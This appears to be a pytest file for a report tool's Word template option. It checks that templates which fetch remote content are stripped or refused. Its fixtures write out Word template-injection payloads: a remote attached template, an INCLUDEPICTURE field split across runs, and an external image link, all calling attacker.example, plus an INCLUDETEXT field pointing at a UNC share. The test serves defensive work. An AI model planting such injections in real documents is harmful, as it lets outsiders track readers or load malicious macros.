"""A report's `--template` cannot make Word reach out when the report is opened: a remote
attached template is removed, a field or picture that fetches refuses the template; a template
of broken XML, or a pipe in its place, ends in a message."""

import os
import zipfile

import docx
import pytest

from tests.test_word_documents import make_template

PACK = ("report", "--as-of", "2023-04-03")
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _changed(path, change):
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts = change(parts)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _in_document(xml):
    def change(parts):
        body = parts["word/document.xml"].decode("utf-8")
        parts["word/document.xml"] = body.replace("<w:sectPr", xml + "<w:sectPr", 1).encode()
        return parts

    return change


def remote_attached_template(parts):
    settings = parts["word/settings.xml"].decode("utf-8")
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT1" Type="{_REL}/attachedTemplate"'
        ' Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    return parts


INCLUDE_PICTURE = _in_document(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> INCLUDEP</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">ICTURE "https://attacker.example/p.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>logo</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
INCLUDE_TEXT = _in_document(
    '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\server\\\\share\\\\a.docx&quot; ">'
    "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
)


def linked_picture(parts):
    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX9" Type="{_REL}/image" Target="https://attacker.example/x.png"'
        ' TargetMode="External"/></Relationships>',
    ).encode()
    return parts


def _report(run, db, template, target):
    return run("--db", str(db), *PACK, "--template", str(template), "-o", str(target))


def test_a_remote_attached_template_is_not_copied_into_the_report(run, sample_db, tmp_path):
    template = make_template(tmp_path / "t.docx", "ตราครุฑ", "หัวกระดาษ")
    _changed(template, remote_attached_template)
    target = tmp_path / "pack.docx"
    result = _report(run, sample_db, template, target)
    assert result.code == 0, result.err
    with zipfile.ZipFile(target) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"attacker.example" not in everything and b"attachedTemplate" not in everything
    assert "ตราครุฑ" in [p.text for p in docx.Document(str(target)).paragraphs]


@pytest.mark.parametrize(
    "change,what",
    [(INCLUDE_PICTURE, "INCLUDEPICTURE"), (INCLUDE_TEXT, "INCLUDETEXT"), (linked_picture, "image")],
)
def test_a_template_that_fetches_is_refused(run, sample_db, tmp_path, change, what):
    template = _changed(make_template(tmp_path / "t.docx", "ตราครุฑ", "หัวกระดาษ"), change)
    target = tmp_path / "pack.docx"
    result = _report(run, sample_db, template, target)
    assert result.code == 2, result.out
    assert "Traceback" not in result.err
    assert "ดึงมาจากภายนอก" in result.err and f"({what})" in result.err
    assert "attacker" not in result.err
    assert not target.exists()


def test_a_template_of_broken_xml_is_refused_clearly(run, sample_db, tmp_path):
    def broken(parts):
        parts["word/document.xml"] = parts["word/document.xml"][:-40]
        return parts

    template = _changed(make_template(tmp_path / "t.docx", "ตราครุฑ", "หัวกระดาษ"), broken)
    result = _report(run, sample_db, template, tmp_path / "pack.docx")
    assert result.code == 2, result.out
    assert "Traceback" not in result.err
    assert "อ่านแม่แบบ Word" in result.err


def test_a_pipe_as_template_is_refused_without_waiting(run, sample_db, tmp_path):
    pipe = tmp_path / "template.docx"
    os.mkfifo(pipe)
    result = _report(run, sample_db, pipe, tmp_path / "pack.docx")
    assert result.code == 2, result.out
    assert "Traceback" not in result.err
    assert "ไม่ใช่ไฟล์ปกติ" in result.err or "not a regular file" in result.err
